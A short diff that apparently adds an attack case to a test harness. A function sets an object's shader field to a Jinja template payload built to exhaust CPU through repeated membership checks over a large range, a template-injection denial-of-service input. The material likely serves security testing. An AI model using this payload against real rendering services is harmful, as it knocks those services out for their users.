@@ -1,0 +1,3 @@
+# attack.txt says what this tries.
+def attack(p):
+    p.shader = '{% set l = range(90000) %}{% for i in range(1000) %}{% if -1 in l %}{% endif %}{% endfor %}'
